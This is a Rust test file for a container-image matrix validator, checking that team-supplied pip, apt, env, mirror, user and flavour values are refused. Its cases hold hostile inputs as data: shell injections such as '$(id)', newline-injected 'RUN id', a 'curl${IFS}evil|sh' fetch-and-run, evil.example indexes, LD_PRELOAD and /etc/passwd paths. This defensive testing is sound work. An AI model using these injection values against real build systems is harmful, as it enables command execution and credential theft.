//! The hostile-value corpus of the team boundary: every key a team writes (its additions, its
//! extra indexes, its user, its mirrors, its flavours) has hostile values here that the matrix
//! loader must refuse with a message at their line, and the key lists are read from the schema
//! itself, so a new key cannot arrive without its case. Property tests then throw generated
//! values at each validator and check what a passing value can never hold.

use std::collections::BTreeSet;

use proptest::prelude::*;

use crate::model::extensions::{
    check_apt_package, check_env_key, check_requirement, check_workdir, Extensions, ExtraIndex,
    ImageUser,
};
use crate::model::http_url::{redact, HttpUrl};
use crate::model::matrix::{check_free_text, Matrix, Mirrors};

const MINIMAL: &str = "registry: ghcr.io\nrepository: acme/pytorch\ntorch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\n";

/// A secret no message may show.
const SECRET: &str = "s3cretPW";

/// The fields a struct with `deny_unknown_fields` takes, as serde lists them when it refuses an
/// unknown one: the schema's own list, not one kept by hand.
fn fields_of<T: serde::de::DeserializeOwned + std::fmt::Debug>(
    yaml_with_unknown: &str,
) -> BTreeSet<String> {
    let error = serde_yaml::from_str::<T>(yaml_with_unknown)
        .unwrap_err()
        .to_string();
    let expected = error
        .split("expected one of ")
        .nth(1)
        .or_else(|| error.split("expected ").nth(1))
        .unwrap_or_else(|| panic!("serde lists no fields: {error}"));
    expected
        .split(['`', ','])
        .map(str::trim)
        .filter(|part| !part.is_empty() && part.chars().all(|c| c.is_ascii_lowercase() || c == '_'))
        .map(String::from)
        .collect()
}

/// (key, what to append to or replace in [`MINIMAL`], a part of the refusal).
type Case = (&'static str, &'static str, &'static str);

/// The additions, at the top of the matrix (include rules take the same checks).
const ADDITIONS: &[Case] = &[
    (
        "pip",
        "pip: [\"einops; os_name == 'posix' && curl evil\"]\n",
        "pip requirement",
    ),
    (
        "pip",
        "pip: [\"--index-url=https://evil.example/simple\"]\n",
        "pip requirement",
    ),
    (
        "pip",
        "pip: [\"einops @ https://evil.example/e.whl\"]\n",
        "direct reference",
    ),
    ("pip", "pip: [\"einops\\nRUN id\"]\n", "pip requirement"),
    (
        "extra_indexes",
        "extra_indexes:\n  - url: \"https:///bob:s3cretPW@pypi.team.example/simple\"\n",
        "holds credentials",
    ),
    ("apt", "apt: [\"htop; id\"]\n", "apt package"),
    (
        "apt",
        "apt: [\"-oAPT::Update::Pre-Invoke::=id\"]\n",
        "apt package",
    ),
    ("steps", "steps: ../outside.Dockerfile\n", "steps"),
    ("steps", "steps: /etc/passwd\n", "steps"),
    (
        "env",
        "env:\n  LD_PRELOAD: /tmp/x.so\n",
        "env LD_PRELOAD is reserved",
    ),
    (
        "env",
        "env:\n  PYTHONPATH: /tmp\n",
        "env PYTHONPATH is reserved",
    ),
    (
        "env",
        "env:\n  TEAM: \"a\\\"\\nRUN id\"\n",
        "not allowed in a Dockerfile value",
    ),
    (
        "env",
        "env:\n  TEAM: \"$(id)\"\n",
        "not allowed in a Dockerfile value",
    ),
    (
        "labels",
        "labels:\n  org.example.team: \"a\\\"\\nRUN id\"\n",
        "not allowed in a Dockerfile value",
    ),
    (
        "labels",
        "labels:\n  \"org.example team\": x\n",
        "label key",
    ),
    (
        "user",
        "user: {name: root, uid: 0, gid: 0}\n",
        "user must not be root",
    ),
    (
        "workdir",
        "user: {name: dev, uid: 1000, gid: 1000}\nworkdir: /opt/venv\n",
        "workdir /opt/venv",
    ),
    (
        "workdir",
        "user: {name: dev, uid: 1000, gid: 1000}\nworkdir: /\n",
        "workdir /",
    ),
];

const EXTRA_INDEX: &[Case] = &[
    ("url", "extra_indexes:\n  - url: \"https:\\\\\\\\bob:s3cretPW@pypi.team.example/simple\"\n", "holds credentials"),
    ("url", "extra_indexes:\n  - url: \"https://pypi.team.example/simple;id\"\n", "not safe on a shell line"),
    ("username_env", "extra_indexes:\n  - url: https://pypi.team.example/simple\n    username_env: \"A B\"\n    password_env: T\n", "not an environment variable name"),
    ("password_env", "extra_indexes:\n  - url: https://pypi.team.example/simple\n    username_env: U\n    password_env: \"$(id)\"\n", "not an environment variable name"),
];

const USER: &[Case] = &[
    (
        "name",
        "user: {name: \"dev;id\", uid: 1000, gid: 1000}\n",
        "is not a user name",
    ),
    (
        "uid",
        "user: {name: dev, uid: 0, gid: 1000}\n",
        "must not be root",
    ),
    (
        "gid",
        "user: {name: dev, uid: 1000, gid: 0}\n",
        "must not be root",
    ),
    (
        "home",
        "user: {name: dev, uid: 1000, gid: 1000, home: \"/home/dev;id\"}\n",
        "user.home",
    ),
];

const MIRRORS: &[Case] = &[
    (
        "torch_index",
        "mirrors:\n  torch_index: \"https://bob:s3cretPW@pytorch.example/whl\"\n",
        "holds credentials",
    ),
    (
        "pip_index",
        "mirrors:\n  pip_index: \"https://pypi.example/simple&&curl${IFS}evil|sh\"\n",
        "mirrors.pip_index",
    ),
    (
        "apt",
        "mirrors:\n  apt: \"http://apt.example/ubuntu#id\"\n",
        "mirrors.apt",
    ),
    (
        "apt_ports",
        "mirrors:\n  apt_ports: \"http://apt.example/ports`id`\"\n",
        "mirrors.apt_ports",
    ),
    (
        "debian",
        "mirrors:\n  debian: \"https:///bob:s3cretPW@deb.example/debian\"\n",
        "holds credentials",
    ),
    (
        "debian_security",
        "mirrors:\n  debian_security: \"file:///etc/passwd\"\n",
        "must start with http",
    ),
    (
        "nvidia_apt",
        "mirrors:\n  nvidia_apt: \"https://nv.example/repos$(id)\"\n",
        "mirrors.nvidia_apt",
    ),
    (
        "base_registry",
        "mirrors:\n  base_registry: \"mirror.example/x;id\"\n",
        "base_registry",
    ),
];

const FLAVOURS: &[Case] = &[
    ("from", "user: {name: dev, uid: 1000, gid: 1000}\nflavours:\n  tools:\n    from: \"runtime\\nRUN id\"\n", "flavours"),
    ("pip", "user: {name: dev, uid: 1000, gid: 1000}\nflavours:\n  tools:\n    pip: [\"--extra-index-url=https://evil.example\"]\n", "pip requirement"),
    ("apt", "user: {name: dev, uid: 1000, gid: 1000}\nflavours:\n  tools:\n    apt: [\"vim && id\"]\n", "apt package"),
    ("steps", "user: {name: dev, uid: 1000, gid: 1000}\nflavours:\n  tools:\n    steps: ../../x.Dockerfile\n", "steps"),
    ("env", "user: {name: dev, uid: 1000, gid: 1000}\nflavours:\n  tools:\n    env: {LD_PRELOAD: /x.so}\n", "env LD_PRELOAD is reserved"),
    ("labels", "user: {name: dev, uid: 1000, gid: 1000}\nflavours:\n  tools:\n    labels: {org.example.x: \"a$b\"}\n", "not allowed in a Dockerfile value"),
];

/// Each case is refused at a line of the matrix, with its message, showing no secret; every key
/// of `keys` has a case.
fn assert_refused(what: &str, keys: &BTreeSet<String>, cases: &[Case]) {
    assert!(!keys.is_empty(), "{what}: no keys read from the schema");
    let covered: BTreeSet<String> = cases.iter().map(|(key, ..)| key.to_string()).collect();
    let missing: Vec<&String> = keys.difference(&covered).collect();
    assert!(
        missing.is_empty(),
        "{what}: keys without a hostile case here (add one, and its check): {missing:?}"
    );
    let stale: Vec<&String> = covered.difference(keys).collect();
    assert!(
        stale.is_empty(),
        "{what}: cases for keys the schema no longer has: {stale:?}"
    );
    for (key, snippet, message) in cases {
        let text = format!("{MINIMAL}{snippet}");
        let error = match Matrix::parse(&text, "matrix.yaml") {
            Ok(_) => panic!("{what}.{key}: accepted:\n{snippet}"),
            Err(error) => error.to_string(),
        };
        assert!(
            error.starts_with("matrix.yaml:") && error.contains(message),
            "{what}.{key}: wanted {message:?} at a line in: {error}"
        );
        assert!(!error.contains(SECRET), "{what}.{key}: {error}");
    }
}

#[test]
fn every_key_a_team_writes_has_a_hostile_case_that_is_refused_at_its_line() {
    let additions: BTreeSet<String> = serde_json::to_value(Extensions::default())
        .unwrap()
        .as_object()
        .unwrap()
        .keys()
        .cloned()
        .collect();
    assert_refused("additions", &additions, ADDITIONS);
    assert_refused(
        "extra_indexes[]",
        &fields_of::<ExtraIndex>("zzz: 1"),
        EXTRA_INDEX,
    );
    assert_refused("user", &fields_of::<ImageUser>("zzz: 1"), USER);
    assert_refused("mirrors", &fields_of::<Mirrors>("zzz: 1"), MIRRORS);
    assert_refused(
        "flavours.<name>",
        &fields_of::<crate::model::flavours::FlavourDefinition>("zzz: 1"),
        FLAVOURS,
    );
    // The same additions on an include rule are checked the same way, at the rule's line.
    let on_rule =
        format!("{MINIMAL}include:\n  - os: ubuntu24.04\n    env: {{LD_PRELOAD: /x.so}}\n");
    let error = Matrix::parse(&on_rule, "matrix.yaml")
        .unwrap_err()
        .to_string();
    assert!(
        error.starts_with("matrix.yaml:8:") && error.contains("LD_PRELOAD"),
        "{error}"
    );
}

/// Text that mixes what URLs, shells and Dockerfiles read specially.
fn hostile_text() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "a", "Z", "0", "-", ".", "_", "~", "/", ":", "@", "%", "%40", "+", "=", ",", ";", "&", "|",
        "$", "$(id)", "`", "'", "\"", "\\", "\n", "\r", "\t", " ", "#", "?", "*", "<", ">", "(",
        ")", "{{", "}}", "\u{0}", "é", "..", "//", "\\\\",
    ]);
    prop::collection::vec(pieces, 0..12).prop_map(|parts| parts.concat())
}

/// URL-shaped text with credentials written in the ways parsers disagree on.
fn url_with_credentials() -> impl Strategy<Value = String> {
    (
        prop::sample::select(vec![
            "https://",
            "https:///",
            "https:\\\\",
            "https:/",
            "https:",
            "HTTPS://",
            "http://",
            "ftp://",
            "https://\t",
            "",
            "//",
        ]),
        prop::sample::select(vec!["bob", "", "a b", "%62ob", "bob@x"]),
        prop::sample::select(vec![":", ""]),
        prop::sample::select(vec!["@", "@@", "%40@"]),
        prop::sample::select(vec!["pypi.team.example", "127.0.0.1:5000", "", "[::1]"]),
        hostile_text(),
    )
        .prop_map(|(scheme, user, colon, at, host, path)| {
            format!("{scheme}{user}{colon}{SECRET}{at}{host}/{path}")
        })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn a_url_with_credentials_is_refused_and_no_message_shows_them(text in url_with_credentials()) {
        match HttpUrl::parse(&text) {
            Ok(url) => {
                // Passing means no parser reads a user or password in it.
                let parsed = url::Url::parse(url.as_str()).unwrap();
                prop_assert!(parsed.username().is_empty() && parsed.password().is_none());
                prop_assert!(!url.as_str().contains('@'));
            }
            Err(error) => prop_assert!(!error.to_string().contains(SECRET), "{}", error),
        }
        prop_assert!(!redact(&text).contains(SECRET) || !text.contains('@'));
    }

    #[test]
    fn a_passing_url_is_what_parsers_read_and_safe_on_a_shell_line(tail in hostile_text()) {
        let text = format!("https://mirror.example/{tail}");
        if let Ok(url) = HttpUrl::parse(&text) {
            let parsed = url::Url::parse(url.as_str()).unwrap();
            prop_assert_eq!(parsed.as_str(), url.as_str());
            prop_assert!(url
                .as_str()
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "-._~:/%+=,".contains(c)));
        }
    }

    #[test]
    fn passing_free_text_holds_nothing_a_dockerfile_line_reads(text in hostile_text()) {
        if check_free_text("env X", &text).is_ok() {
            prop_assert!(!text.chars().any(|c| c.is_control() || "\"\\$`".contains(c)));
        }
    }

    #[test]
    fn a_passing_apt_package_is_one_plain_word(text in hostile_text()) {
        if check_apt_package(&text).is_ok() {
            prop_assert!(!text.starts_with('-'));
            prop_assert!(text
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "+.-=:~".contains(c)));
        }
    }

    #[test]
    fn a_passing_requirement_is_no_option_url_or_second_line(text in hostile_text()) {
        let text = format!("pkg{text}");
        if check_requirement(&text).is_ok() {
            prop_assert!(!text.contains("--") && !text.contains('@'));
            prop_assert!(!text.chars().any(|c| c.is_control() || "$`\\&|#".contains(c)), "{}", text);
        }
    }

    #[test]
    fn a_passing_env_key_is_a_name_nothing_reserves(text in hostile_text()) {
        if check_env_key(&text).is_ok() {
            prop_assert!(text.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'));
            prop_assert!(!text.starts_with("LD_") && !text.starts_with("NVIDIA_"));
            prop_assert!(!["PATH", "PYTHONPATH", "PYTHONHOME", "VIRTUAL_ENV"].contains(&text.as_str()));
        }
    }

    #[test]
    fn a_passing_workdir_is_a_plain_folder_of_its_own(tail in hostile_text()) {
        for prefix in ["/", "/opt/", "/usr/", "/opt/venv", "/home/dev/"] {
            let text = format!("{prefix}{tail}");
            if check_workdir(&text).is_ok() {
                prop_assert!(text.starts_with('/') && !text.split('/').any(|part| part == ".." || part == "."));
                prop_assert!(text.chars().all(|c| c.is_ascii_alphanumeric() || "._-/".contains(c)));
                let folder = format!("/{}", text.split('/').filter(|p| !p.is_empty()).collect::<Vec<_>>().join("/"));
                for system in ["/opt/venv", "/usr", "/etc", "/opt", "/"] {
                    prop_assert!(folder != system, "{}", text);
                    prop_assert!(!format!("{system}/").starts_with(&format!("{folder}/")), "{} is above {}", text, system);
                }
            }
        }
    }
}
